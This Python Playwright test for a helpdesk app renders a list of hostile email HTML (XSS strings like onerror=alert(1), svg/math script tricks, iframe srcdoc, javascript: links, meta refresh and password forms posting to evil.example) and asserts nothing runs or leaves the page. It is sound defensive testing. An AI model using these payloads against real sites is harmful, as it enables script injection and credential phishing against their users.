"""Hostile HTML of mails in a real browser: nothing runs, nothing leaves the page or its place."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route

from supportdesk.domain.replay import CUSTOMER, Actor
from supportdesk.mail.incoming import markup
from supportdesk.store.eventlog import Written
from supportdesk.tickets.actions import NewTicket, open_ticket
from supportdesk.tickets.changing import Change
from tests.desk import signed_in
from tests.intake.post import Post
from tests.intake.test_texts import CLEAN

OURS = "http://localhost"
SAMPLES = Path(__file__).parents[1] / "data" / "hostile.jsonl"
TRICKS = [
    '<div style="position:fixed;inset:0;z-index:9999;background:red">over</div>',
    "<style>@import url(http://evil.example/a.css); *{display:none} body{background:red}</style>",
    '<link rel="stylesheet" href="http://evil.example/b.css"><base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><p id="composer">id</p>',
    '<table background="http://evil.example/t.png" width="9000"><tr><td width="9000">w</td></tr>',
    '<img src="http://evil.example/p.png" srcset="http://evil.example/s.png 2x" alt="alt">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src=x onerror=alert(1)>',
    '<video src="http://evil.example/v" poster="http://evil.example/w" autoplay></video>',
    '<form action="http://evil.example/f"><input name="password" autofocus><button>Go</button>',
    '<a href="/logout" target="_top">x</a><a href="#composer">y</a><a href="javascript:alert(1)">z',
    '<p hx-get="/tickets" hx-trigger="load" data-dialog data-behaviour="live">hx</p>',
    '<p class="toast dialog rail" name="seen">class</p><dialog open>open</dialog>',
    "<p>" + "W" * 3_000 + "</p>",
    "<svg><script>alert(1)</script></svg><math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="http://evil.example">',
]
# What of an element a mail wrote could reach beyond it.
LOOK = """() => [...document.querySelectorAll('.prose *')].filter(it => {
  const box = it.getBoundingClientRect(), card = it.closest('article').getBoundingClientRect();
  const style = getComputedStyle(it), ours = it.closest('summary, .fold-long') === it;
  const marked = ['id', 'style', 'name', 'hx-get', 'data-dialog'].some(n => it.hasAttribute(n));
  const inBox = it.closest('table') ? true : box.right <= card.right + 1;
  return marked || (it.className && !ours) || style.position !== 'static' || !inBox ||
    ['FORM', 'INPUT', 'IFRAME', 'STYLE', 'SCRIPT', 'LINK', 'IMG', 'DIALOG'].includes(it.tagName);
}).map(it => it.outerHTML.slice(0, 200))"""
WIDER = "() => document.documentElement.scrollWidth - innerWidth"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    page = browser.new_page(viewport={"width": 1440, "height": 900})
    yield page
    page.context.close()


def payloads() -> list[str]:
    found = [json.loads(line)["payload"] for line in SAMPLES.read_text().splitlines()]
    return [each for each in found if "<" in each] + TRICKS


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_html_of_a_mail_does_nothing_and_stays_in_its_box(post: Post, page: Page) -> None:
    html = "".join(f"<p>{CLEAN.html(markup.read(each).safe())}</p>" for each in payloads())
    new = NewTicket("Eve", "eve@else.example", "email", "Hi", Written("Hi", html), "mail")
    number = open_ticket(new, Change(Actor(CUSTOMER), post.now)).ticket.number
    asked, said = list[str](), list[str]()
    desk = signed_in(post.app, "mara")

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        target = urlsplit(route.request.url)
        if target.netloc != "localhost" or target.path == "/live":
            return route.abort()
        got = desk.open(f"{target.path}?{target.query}", method=route.request.method)
        return route.fulfill(status=got.status_code, headers=dict(got.headers), body=got.data)

    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: said.append(message.text))
    page.route("**/*", answer)
    page.goto(f"{OURS}/tickets/{number}", wait_until="load")
    assert page.evaluate(LOOK) == []
    assert page.evaluate("() => getComputedStyle(document.body).display") != "none"
    assert page.url == f"{OURS}/tickets/{number}"
    assert [url for url in asked if not url.startswith(f"{OURS}/")] == []
    assert [each for each in said if "Content Security" in each or each == "1"] == []
    assert "[picture: alt, from evil.example]" in page.inner_text(".prose")
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate(WIDER) <= 0
